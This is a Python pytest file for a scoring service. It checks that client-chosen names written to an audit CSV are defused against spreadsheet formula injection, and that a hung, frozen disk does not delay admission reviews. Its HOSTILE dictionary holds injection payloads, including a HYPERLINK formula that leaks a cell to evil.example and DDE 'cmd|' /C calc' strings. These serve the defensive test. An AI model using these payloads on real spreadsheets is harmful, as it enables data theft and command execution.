"""fuzzy_score.csv under attack: client-chosen names reach it, so they must come out as plain
one-line bounded cells that no spreadsheet reads as a formula; and a disk that hangs must not
hold a single /validate answer (the rows are written off the request path)."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import urllib.request
from datetime import UTC, datetime

import pytest

from common.csvfile import MAX_CELL_CHARS, CsvSink
from common.names import FUZZY_SCORE_COLUMNS
from scorer.core.admission import ScoreRecord
from scorer.recorder import Recorder
from tests import support
from tests.conftest import require
from tests.scorer import promserver
from tests.support import REPO

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open me")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "controls": "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g\x00h\x7fi\tj",
    "lines": "first\r\nsecond\nthird",
    "huge": "x" * 1_000_000,
}


def _record(uid: str, name: str) -> ScoreRecord:
    return ScoreRecord(time=datetime(2026, 12, 2, tzinfo=UTC), uid=uid, namespace="ns", name=name,
                       allowed_nodes=1, total_nodes=2, best_node="w1", best_score=12.5, target_node=None,
                       target_score=None, target_decision=None)


def test_hostile_names_come_out_inert_and_bounded(tmp_path):
    path = tmp_path / "fuzzy_score.csv"
    recorder = Recorder(CsvSink(path, FUZZY_SCORE_COLUMNS))
    for key, value in HOSTILE.items():
        recorder.record(_record(f"uid-{key}", value))
    recorder.close()
    lines = path.read_bytes().decode().split("\n")
    assert lines[-1] == "" and len(lines) == 1 + len(HOSTILE) + 1, "one line per row"
    with open(path, newline="") as f:
        rows = list(csv.DictReader(f))
    names = {r["Uid"][4:]: r["Name"] for r in rows}
    assert set(names) == set(HOSTILE)
    for key in ("formula", "plus", "at", "minus"):
        assert names[key] == "'" + HOSTILE[key]
    assert names["controls"] == "a b c d e f g h i j"
    assert names["lines"] == "first  second third"
    assert len(names["huge"]) == MAX_CELL_CHARS and names["huge"].endswith("…")
    assert all(not r["Name"].startswith(("=", "+", "-", "@")) for r in rows)
    assert rows[0]["BestScore"] == "12.500", "numbers untouched"


def test_negative_numbers_stay_numbers(tmp_path):
    path = tmp_path / "out.csv"
    with CsvSink(path, ("a", "b")) as sink:
        sink.write(["-0.25", "-inf"])
    assert path.read_text().splitlines()[1] == "-0.25,-inf"


def _post(url: str, body: bytes, timeout: float) -> tuple[int, float]:
    started = time.monotonic()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as r:
        r.read()
        return r.status, time.monotonic() - started


@pytest.fixture
def freezable_dir(tmp_path):
    """A directory on its own small ext4 file system (a loop mount) that the test can freeze
    with fsfreeze(8): every write to it then blocks in the kernel until it is thawed, exactly
    like a hung disk. Thawed and unmounted at teardown, whatever happened."""
    tools = [t for t in ("mkfs.ext4", "fsfreeze", "mount", "umount") if shutil.which(t) is None]
    require(os.geteuid() == 0 and not tools, f"needs root and {', '.join(tools) or 'loop mounts'}")
    image, mnt = tmp_path / "disk.img", tmp_path / "disk"
    mnt.mkdir()
    with open(image, "wb") as f:
        f.truncate(16 << 20)
    subprocess.run(["mkfs.ext4", "-q", str(image)], check=True, timeout=60)
    subprocess.run(["mount", "-o", "loop", str(image), str(mnt)], check=True, timeout=60)
    frozen = [False]

    def freeze(on: bool) -> None:
        """Freeze or thaw; idempotent, so a `finally` can always thaw before killing a process
        stuck in the disk (it cannot die before)."""
        if frozen[0] != on:
            subprocess.run(["fsfreeze", "-f" if on else "-u", str(mnt)], check=True, timeout=30)
            frozen[0] = on

    try:
        yield mnt, freeze
    finally:
        freeze(False)
        subprocess.run(["umount", str(mnt)], check=False, timeout=60)


def test_a_hung_disk_never_holds_a_review(tmp_path, real_kernel_csv, freezable_dir):
    """The audit file's disk hangs (frozen): every review must still be answered at once, and the
    rows must reach the file once the disk is back."""
    disk, freeze = freezable_dir
    exporter = promserver.start_exporter(tmp_path, real_kernel_csv, node="w1", speed=20.0,
                                         env={"KSENSE_WARMUP_S": "5"})
    audit = disk / "fuzzy_score.csv"
    api, metrics = support.free_port(), support.free_port()
    log = (tmp_path / "scorer.log").open("wb")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("KSENSE_", "FUZZY_"))}
    scorer = subprocess.Popen(
        [sys.executable, "-m", "scorer", "--exporter-url", exporter.url + "/metrics", "--host", "127.0.0.1",
         "--port", str(api), "--metrics-port", str(metrics), "--score-csv", str(audit)],
        cwd=REPO, env={**env, "KSENSE_SCORER_INTERVAL_S": "0.2"}, stdout=log, stderr=subprocess.STDOUT)
    try:
        def healthy():
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{api}/healthz", timeout=2) as r:
                    return r.status == 200
            except OSError:
                return False

        support.wait_for(healthy, 60, "the scorer's API")
        freeze(True)
        review = json.loads((REPO / "tests/scorer/fixtures/admission/v1_pod_create.request.json").read_text())
        uids = [f"00000000-0000-4000-8000-{i:012d}" for i in range(20)]
        slowest = 0.0
        for uid in uids:
            review["request"]["uid"] = uid
            status, took = _post(f"http://127.0.0.1:{api}/validate", json.dumps(review).encode(), timeout=5)
            assert status == 200
            slowest = max(slowest, took)
        assert slowest < 1.0, f"a review took {slowest:.2f} s with the audit disk hung"
        with urllib.request.urlopen(f"http://127.0.0.1:{metrics}/metrics", timeout=5) as r:
            text = r.read().decode()
        assert 'ksense_csv_rows_written_total{file="fuzzy_score.csv"} 0.0' in text
        assert 'ksense_admission_reviews_total{outcome="recorded"} 20.0' in text
        freeze(False)
        support.wait_for(lambda: audit.exists() and len(audit.read_text().splitlines()) == 21, 10,
                            "the queued rows written once the disk is back")
        with open(audit, newline="") as f:
            assert [r["Uid"] for r in csv.DictReader(f)] == uids
        scorer.send_signal(signal.SIGTERM)
        assert scorer.wait(timeout=30) == 0
    finally:
        freeze(False)
        if scorer.poll() is None:
            scorer.kill()
            scorer.wait()
        exporter.stop()
        log.close()
